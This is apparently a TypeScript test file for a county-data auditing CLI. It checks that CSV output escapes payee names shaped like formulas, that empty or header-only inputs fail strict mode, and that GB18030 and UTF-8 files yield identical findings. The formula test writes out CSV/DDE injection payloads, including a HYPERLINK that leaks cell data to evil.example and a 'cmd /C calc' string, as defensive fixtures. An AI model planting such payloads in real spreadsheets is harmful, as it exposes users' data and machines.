/**
 * What county data must not do to a run (issue #16): a payee named `=HYPERLINK(…)` must not
 * become a live formula in `--format csv`; an empty or header-only export must not pass
 * `--strict` as a clean run; a GB18030 county must give the findings its UTF-8 twin gives.
 */
import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '@sunshine/adapters/csv';
import { generateCounty } from '@sunshine/gen';
import { createDefaultLibrary } from '../src/index.js';
import { runCli } from './fake-library.js';

const dir = mkdtempSync(join(tmpdir(), 'sunshine-hardening-'));
const town = join(dir, 'town');

beforeAll(async () => {
  await generateCounty({ scale: 'town', seed: 1, out: town, asOf: '2024-12-31' });
}, 120_000);

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

/** A CSV field, quoted when it needs to be. */
const csvField = (v: string): string => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);

/** A folder with some of the town's files. */
function partOfTown(name: string, files: readonly string[]): string {
  const out = join(dir, name);
  mkdirSync(out);
  for (const f of files) copyFileSync(join(town, f), join(out, f));
  return out;
}

function truthKeys(rule: string): string[] {
  const truth = JSON.parse(readFileSync(join(town, 'truth.json'), 'utf8')) as { findings: { rule: string; key: string }[] };
  return truth.findings.filter((f) => f.rule === rule).map((f) => f.key);
}

describe('spreadsheet safety of --format csv', () => {
  it('writes a payee named like a formula so that spreadsheets show it as text', async () => {
    const data = partOfTown('formula', ['payments.csv', 'deaths.csv', 'persons.csv', 'regions.csv', 'funds.csv']);
    const keys = truthKeys('deceased-payee');
    expect(keys.length).toBeGreaterThanOrEqual(4);
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-2+3'];
    const nameOf = new Map(keys.slice(0, names.length).map((k, i) => [k, names[i]!]));
    const [header, ...rows] = parseCsv(readFileSync(join(data, 'payments.csv'), 'utf8')).rows;
    const at = (c: string): number => header!.indexOf(c);
    for (const row of rows) {
      const evil = nameOf.get(row[at('payment_id')]!);
      if (evil !== undefined) row[at('name')] = row[at('account_holder_name')] = evil;
    }
    writeFileSync(join(data, 'payments.csv'), [header!, ...rows].map((r) => r.map(csvField).join(',')).join('\n'));

    const r = await runCli(['run', '--data', data, '--only', 'deceased-payee', '--as-of', '2024-12-31', '--format', 'csv', '-q'], createDefaultLibrary());
    expect(r.code).toBe(0);
    const cells = parseCsv(r.out.replace(/^\uFEFF/, '')).rows.flat();
    const messages = cells.filter((c) => names.some((n) => c.includes(n)));
    expect(messages.length).toBeGreaterThanOrEqual(names.length * 2); // zh and en
    for (const c of messages) expect(c.startsWith("'")).toBe(true);
    // No cell starts a formula unless it is a number.
    for (const c of cells) if (/^[=+\-@\t\r]/.test(c)) expect(c).toMatch(/^[+-]?\d+(\.\d+)?$/);
    expect(cells.some((c) => c.startsWith(`'${names[0]!}（`))).toBe(true);
  }, 60_000);
});

describe('empty and header-only files', () => {
  const files = ['payments.csv', 'deaths.csv', 'regions.csv', 'funds.csv'];

  it('are announced, and with --strict a dataset the rules read that has no rows exits 2', async () => {
    const data = partOfTown('header-only', files);
    writeFileSync(join(data, 'deaths.csv'), 'id_number,name,death_date,source\n');
    const args = ['run', '--data', data, '--only', 'deceased-payee', '--as-of', '2024-12-31', '--format', 'json', '--no-timings'];
    const plain = await runCli(args, createDefaultLibrary());
    expect(plain.code).toBe(0);
    expect(plain.err).toMatch(/warning: `deaths` has no rows: \S*deaths\.csv is empty or holds only a header; rules over it find nothing in it\n/);
    const strict = await runCli([...args, '--strict'], createDefaultLibrary());
    expect(strict.code).toBe(2);
    expect(strict.err).toMatch(/--strict: `deaths` \(\S*deaths\.csv\) has no rows but the rules read it; exiting with 2/);
    expect(strict.err).not.toMatch(/\n\s+at /);
    // An empty file (no header either) is the same.
    writeFileSync(join(data, 'deaths.csv'), '');
    const empty = await runCli([...args, '--strict'], createDefaultLibrary());
    expect(empty.code).toBe(2);
    expect(empty.err).toMatch(/`deaths` has no rows: \S*deaths\.csv is empty or holds only a header/);
    expect(empty.err).not.toContain('the file is empty;');
  }, 60_000);

  it('a header-only file no rule of the run reads is not read (the run says what it reads) and passes --strict', async () => {
    const data = partOfTown('unread-empty', files);
    writeFileSync(join(data, 'vehicles.csv'), 'plate,owner_id_number,vehicle_type,registration_date,deregistration_date\r\n');
    const r = await runCli(['run', '--data', data, '--only', 'deceased-payee', '--as-of', '2024-12-31', '--format', 'json', '--strict'], createDefaultLibrary());
    expect(r.err).toMatch(/reading only the \d+ datasets the rules of this run read[^\n]*: [^\n]*\bdeaths\b/);
    expect(r.err).not.toMatch(/reading only[^\n]*\bvehicles\b/);
    expect(r.err).not.toMatch(/`vehicles` has no rows/);
    expect(r.code).toBe(0);
  }, 60_000);
});

describe('GB18030 county files', () => {
  it('reads a Shandong vehicles.csv whose only Chinese character is the plate prefix 鲁 (C2 B3, valid UTF-8) as GB18030', async () => {
    const text = readFileSync(join(town, 'vehicles.csv'), 'utf8');
    expect(text).toContain('鲁N');
    const data = partOfTown('plates', ['vehicles.csv', 'regions.csv']);
    writeFileSync(join(data, 'vehicles.csv'), iconv.encode(text, 'gb18030'));
    const lib = createDefaultLibrary();
    const loaded = await lib.loadData({ kind: 'folder', dir: data });
    const plates = loaded.tables.get('vehicles')!.map((v) => v['plate']);
    expect(plates.length).toBeGreaterThan(100);
    expect(plates.every((p) => typeof p === 'string' && p.startsWith('鲁'))).toBe(true);
    expect(plates.some((p) => String(p).includes('³'))).toBe(false);
  }, 60_000);

  it('--encoding states it: utf8 reads the bytes as UTF-8, gb18030 as GB18030', async () => {
    const data = partOfTown('stated', ['vehicles.csv']);
    writeFileSync(join(data, 'vehicles.csv'), iconv.encode('plate,owner_id_number,vehicle_type,registration_date,deregistration_date\n鲁N00163,371426198106025836,car,2005-06-24,\n', 'gb18030'));
    const lib = createDefaultLibrary();
    const plate = async (encoding?: 'utf-8' | 'gb18030'): Promise<unknown> => (await lib.loadData({ kind: 'folder', dir: data, ...(encoding ? { encoding } : {}) })).tables.get('vehicles')![0]!['plate'];
    expect(await plate()).toBe('鲁N00163');
    expect(await plate('gb18030')).toBe('鲁N00163');
    expect(await plate('utf-8')).toBe('³N00163');
    // sunshine.config.json states it too; the flag wins.
    const project = join(dir, 'project');
    mkdirSync(join(project, 'data'), { recursive: true });
    writeFileSync(join(project, 'data', 'vehicles.csv'), iconv.encode('plate,owner_id_number,vehicle_type,registration_date,deregistration_date\n鲁N1,371426198106025836,鲁,2005-06-24,\n', 'gb18030'));
    const rejectedValue = async (args: string[]): Promise<unknown> => {
      const r = await runCli(['run', '--as-of', '2024-12-31', '--format', 'json', '-q', ...args], lib, { cwd: project });
      return (JSON.parse(r.out) as { rejected: { value: unknown }[] }).rejected[0]?.value;
    };
    expect(await rejectedValue(['--data', 'data'])).toBe('鲁');
    writeFileSync(join(project, 'sunshine.config.json'), JSON.stringify({ data: { dir: 'data', encoding: 'utf8' } }));
    expect(await rejectedValue([])).toBe('³');
    expect(await rejectedValue(['--encoding', 'gb18030'])).toBe('鲁');
    const bad = await runCli(['run', '--data', data, '--encoding', 'latin1'], lib);
    expect(bad.code).toBe(2);
    expect(bad.err).toContain('`--encoding` must be utf8, gb18030 or auto, got `latin1`');
    const explain = await runCli(['explain', '--data', data, '--encoding', 'utf8', '--rule', 'vehicle-owner-on-assistance', '--key', 'x', '--as-of', '2024-12-31'], lib);
    expect(explain.err).not.toContain('Unknown option');
  }, 60_000);

  it('re-encoding a generated county to GB18030 gives byte-identical findings', async () => {
    const gb = join(dir, 'town-gb18030');
    mkdirSync(gb);
    for (const f of readdirSync(town)) {
      const bytes = readFileSync(join(town, f));
      writeFileSync(join(gb, f), f.endsWith('.csv') ? iconv.encode(bytes.toString('utf8'), 'gb18030') : bytes);
    }
    const lib = createDefaultLibrary();
    const args = ['--as-of', '2024-12-31', '--format', 'json', '--no-timings', '-q'];
    const utf8 = await runCli(['run', '--data', town, ...args], lib);
    const gb18030 = await runCli(['run', '--data', gb, ...args], lib);
    expect(utf8.code).toBe(0);
    expect(gb18030.code).toBe(0);
    type Report = { findings: unknown[]; counts: unknown; source: { datasets: { dataset: string; rows: number; rejected: number }[] } };
    const a = JSON.parse(utf8.out) as Report;
    const b = JSON.parse(gb18030.out) as Report;
    expect(a.findings.length).toBeGreaterThan(100);
    expect(b.findings.length).toBe(a.findings.length);
    // Byte for byte; on failure, the first findings that differ (not megabytes of JSON).
    const differ = a.findings.map((f, i) => [JSON.stringify(f), JSON.stringify(b.findings[i])]).filter(([x, y]) => x !== y);
    expect(differ.slice(0, 2)).toEqual([]);
    expect(b.counts).toEqual(a.counts);
    const rows = (r: Report) => r.source.datasets.map((d) => `${d.dataset}:${d.rows}:${d.rejected}`);
    expect(rows(b)).toEqual(rows(a));
  }, 120_000);
});
